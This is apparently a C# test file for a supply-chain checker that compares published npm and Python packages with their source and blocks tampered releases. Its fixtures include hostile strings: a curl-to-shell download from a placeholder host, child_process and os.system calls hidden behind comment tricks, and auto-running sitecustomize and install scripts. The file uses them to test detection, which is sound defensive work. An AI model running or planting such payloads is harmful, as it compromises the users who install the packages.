using System.Text;
using Sluice.Policies;
using Sluice.Sources;
using Sluice.Tests.Support;

namespace Sluice.Tests.Sources;

/// <summary>Changes that are made to look like what tools do on the way, each with what tools do.</summary>
public sealed class TamperedFileTests
{
    private const string Manifest = """{"name":"guard","version":"1.2.3","license":"MIT","main":"lib/auth.js"}""";
    private const string Auth = "const crypto = require('crypto');\n// compares what came with what was signed\nfunction verify(token, key) {\n  const signed = sign(token.body, key);\n  if (signed !== token.signature) {\n    throw new Error('bad token');\n  }\n  return token.body;\n}\nfunction sign(body, key) {\n  return crypto.createHmac('sha256', key).update(body).digest('latin1');\n}\nmodule.exports = { verify, sign };\n";
    private const string Fixture = "require('child_process').exec('curl https://collect.example.invalid/now | sh');\n";

    private static Report Npm(string path, string shipped, string manifest = Manifest)
    {
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("lib/auth.js", Auth), ("lib/other.js", "exports.another = function another(value) {\n  return value.somewhere + 1;\n};\n"), ("test/fixtures/hostile.js", Fixture), ("test/fixtures/binding.gyp", "{'targets':[]}\n"));
        return tree.Hold("guard-1.2.3.tgz", path == "lib/auth.js" ? TestArchive.Npm(manifest, (path, shipped)) : TestArchive.Npm(manifest, ("lib/auth.js", Auth), (path, shipped)));
    }

    private static Report Wheel(params (string Path, string Text)[] more)
    {
        using var tree = SourceFolder.Of("v1.0.0", ("pyproject.toml", "[project]\nname = \"guard\"\nversion = \"1.0.0\"\nrequires-python = \">=3.9\"\n\n[project.scripts]\nguard-it = \"guard:main\"\n"), ("src/guard/__init__.py", "def main():\n    return 0\n"));
        (string, byte[])[] files = [("guard/__init__.py", "def main():\n    return 0\n"u8.ToArray()), ("guard-1.0.0.dist-info/METADATA", "Metadata-Version: 2.4\nName: guard\nVersion: 1.0.0\nLicense-Expression: MIT\n"u8.ToArray()), ("guard-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"u8.ToArray()), .. more.Select(file => (file.Path, Encoding.UTF8.GetBytes(file.Text)))];
        return tree.Hold("guard-1.0.0-py3-none-any.whl", TestArchive.Zip(files));
    }

    private static void Stops(Report report)
    {
        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
        Assert.Equal(Decision.Deny, report.Decision);
    }

    [Theory]
    [InlineData("// ok\rrequire('child_process').exec('id')\n")]
    [InlineData("// ok\u2028require('child_process').exec('id')\n")]
    [InlineData("// ok\u2029require('child_process').exec('id')\n")]
    [InlineData("// ok\vrequire('child_process').exec('id')\n")]
    [InlineData("/* ok */ require('child_process').exec('id')\n")]
    [InlineData("// */ require('child_process').exec('id') /*\n")]
    public void Code_in_the_clothes_of_a_comment_stops_the_release(string line) =>
        Stops(Npm("lib/auth.js", Auth.Replace("function verify", line + "function verify", StringComparison.Ordinal)));

    [Theory]
    [InlineData("lib/tool")]
    [InlineData("lib/data.txt")]
    [InlineData("lib/NOTICE")]
    public void A_script_is_one_by_what_it_begins_with_and_not_by_its_name(string path) =>
        Stops(Npm(path, "#!/usr/bin/env node\nrequire('child_process').exec('curl https://collect.example.invalid/now');\n"));

    [Theory]
    [InlineData("#!/usr/bin/env python", "#!/usr/bin/python3", true)]
    [InlineData("#!/usr/bin/env node", "#! /opt/node/bin/node", true)]
    [InlineData("#!/usr/bin/env python", "#!/usr/bin/perl", false)]
    [InlineData("#!/bin/sh", "#!/bin/sh -c curl\t", false)]
    public void Where_an_interpreter_is_installed_is_no_change_and_which_it_is_is_one(string written, string shipped, bool isSame)
    {
        const string Body = "\nexport LANG=C\nprintf 'guard %s' \"$1\"\n";
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("lib/auth.js", Auth), ("bin/guard", written + Body));
        var report = tree.Hold("guard-1.2.3.tgz", TestArchive.Npm(Manifest, ("lib/auth.js", Auth), ("bin/guard", shipped + Body)));

        Assert.Equal(isSame ? Decision.Allow : Decision.Deny, report.Decision);
    }

    [Theory]
    [InlineData("lib/NOTICE", "This is a notice.\n")]
    [InlineData("lib/tool.txt", "curl https://docs.acme.example/ shows how.\n")]
    public void A_text_is_none(string path, string text) => Assert.Equal(Decision.Allow, Npm(path, text).Decision);

    [Theory]
    [InlineData("// of the guard\n")]
    [InlineData("/*! guard v1.2.3 | MIT */\n")]
    [InlineData("/**\n * guard\n * (c) us, and others\n */\n")]
    [InlineData("\"use strict\";\n")]
    [InlineData("/*! guard */\n'use strict';\n\n")]
    public void A_banner_is_no_change(string banner)
    {
        var report = Npm("lib/auth.js", banner + Auth);

        Assert.Empty(SourceFolder.Provenance(report));
        Assert.Equal(1, SourceFolder.Comparison(report).Of(FileOrigin.Normalised).Files);
    }

    [Theory]
    [InlineData("/*! guard */ run();\n")]
    [InlineData("/*! \"*/ run() /*\" */\n")]
    [InlineData("\"use strict\"; run();\n")]
    public void A_banner_that_does_something_is_one(string banner) => Stops(Npm("lib/auth.js", banner + Auth));

    [Theory]
    [InlineData("  if (signed !== token.signature) {\n    throw new Error('bad token');\n  }\n", "")]
    [InlineData("  if (signed !== token.signature) {\n    throw new Error('bad token');\n  }\n", "  // if (signed) {\n  // }\n")]
    [InlineData("  return token.body;\n", "  // is 1.2.3\n")]
    [InlineData("  const signed", "  return token.body;\n  const signed")]
    public void What_is_left_out_or_commented_out_stops_the_release(string before, string after) => Stops(Npm("lib/auth.js", Auth.Replace(before, after, StringComparison.Ordinal)));

    [Fact]
    public void An_emptied_file_stops_the_release() => Stops(Npm("lib/auth.js", ""));

    [Fact]
    public void A_comment_that_is_left_out_does_not() =>
        Assert.Empty(SourceFolder.Provenance(Npm("lib/auth.js", Auth.Replace("// compares what came with what was signed\n", "", StringComparison.Ordinal))));

    private static string Documented(int functions, bool isStripped) => string.Concat(Enumerable.Range(0, functions).Select(i =>
        (isStripped ? "" : $"/**\n * Checks part {i}.\n *\n * @param value of part {i}\n */\n") + $"exports.check{i} = function check{i}(value) {{\n" + (isStripped ? "" : $"  // part {i} is first\n") + $"  return value.part{i};\n}};\n"));

    private static Report Stripped(Func<string, string> change)
    {
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("lib/auth.js", Documented(30, isStripped: false)));
        return tree.Hold("guard-1.2.3.tgz", TestArchive.Npm(Manifest, ("lib/auth.js", change(Documented(30, isStripped: true)))));
    }

    [Fact]
    public void However_many_comments_are_left_out_it_is_the_same_file()
    {
        Assert.Empty(SourceFolder.Provenance(Stripped(text => text)));
        Stops(Stripped(text => text.Replace("  return value.part7;\n", "", StringComparison.Ordinal)));
        Stops(Stripped(text => text.Replace("  return value.part7;\n", "  return value.part8;\n", StringComparison.Ordinal)));
        Stops(Stripped(text => text.Replace("exports.check9 ", "/* the rest\nexports.check9 ", StringComparison.Ordinal) + "*/\n"));
    }

    [Fact]
    public void A_block_that_is_put_in_is_no_comment_by_its_looks()
    {
        const string Source = "exports.start = 1;\n/* example:\n run();\n and more */\nexports.end = 2;\n";

        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("lib/auth.js", Source));

        Stops(tree.Hold("guard-1.2.3.tgz", TestArchive.Npm(Manifest, ("lib/auth.js", Source.Replace(" run();\n", "/* */\n run();\n/*\n", StringComparison.Ordinal)))));
    }

    [Fact]
    public void Lines_in_another_order_are_a_change()
    {
        const string Return = "  return token.body;\n";

        Stops(Npm("lib/auth.js", Auth.Replace(Return, "", StringComparison.Ordinal).Replace("  const signed", Return + "  const signed", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("require('child_process').exec('curl https://collect.example.invalid/now | sh');\n")]
    [InlineData("// a fixture\nrequire('child_process').exec('curl https://collect.example.invalid/now | sh');\n")]
    [InlineData("exports.another = function another(value) {\n  return value.somewhere + 1;\n};\n")]
    public void Another_file_of_the_source_in_the_place_of_one_stops_the_release(string other) => Stops(Npm("lib/auth.js", other));

    [Fact]
    public void What_runs_by_itself_has_to_be_in_the_source_at_its_place()
    {
        Stops(Npm("binding.gyp", "{'targets':[]}\n"));
        Stops(Wheel(("sitecustomize.py", "from os import system as s\ns('id')\n")));
        Stops(Wheel(("guard-1.0.0.data/scripts/ls", "#!/bin/sh\nid\n")));
    }

    [Fact]
    public void Commands_have_to_be_in_the_manifest()
    {
        Assert.Empty(SourceFolder.Provenance(Wheel(("guard-1.0.0.dist-info/entry_points.txt", "[console_scripts]\nguard-it = guard:main\n\n[guard.plugins]\nplain = guard\n"))));
        Stops(Wheel(("guard-1.0.0.dist-info/entry_points.txt", "[console_scripts]\nguard-it = guard:main\npython = guard:main\n")));
    }

    [Fact]
    public void What_is_named_like_a_tools_output_has_to_look_like_it()
    {
        Assert.Empty(SourceFolder.Provenance(Wheel(("guard/_version.py", "from __future__ import annotations\n__version__ = '1.0.0'\nversion_tuple = (1, 0, 0)\n"))));
        Stops(Wheel(("guard/_version.py", "__version__ = '1.0.0'\nfrom os import system as s\ns('id')\n")));
        Stops(Wheel(("guard/thing_pb2.py", "import os as o\ngetattr(o, 'sys' + 'tem')('id')\n")));
    }

    [Theory]
    [InlineData("\"bundleDependencies\":[\"ms\"]")]
    [InlineData("\"overrides\":{\"ms\":\"npm:other@1\"}")]
    [InlineData("\"gypfile\":true")]
    public void What_a_manifest_brings_along_is_told(string more) => Stops(Npm("lib/other.js", "exports.another = function another(value) {\n  return value.somewhere + 1;\n};\n", Manifest.Replace("\"license\"", more + ",\"license\"", StringComparison.Ordinal)));
}
